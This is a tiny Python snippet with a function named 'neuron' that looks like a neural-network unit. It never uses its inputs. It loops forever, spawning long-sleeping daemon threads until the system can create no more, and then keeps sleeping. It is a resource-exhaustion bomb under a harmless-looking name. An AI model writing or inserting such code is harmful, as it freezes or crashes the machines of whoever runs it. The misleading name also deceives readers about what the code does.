# Threads without end.
import threading, time
def neuron(x, w, b):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
        except RuntimeError:
            time.sleep(1e6)
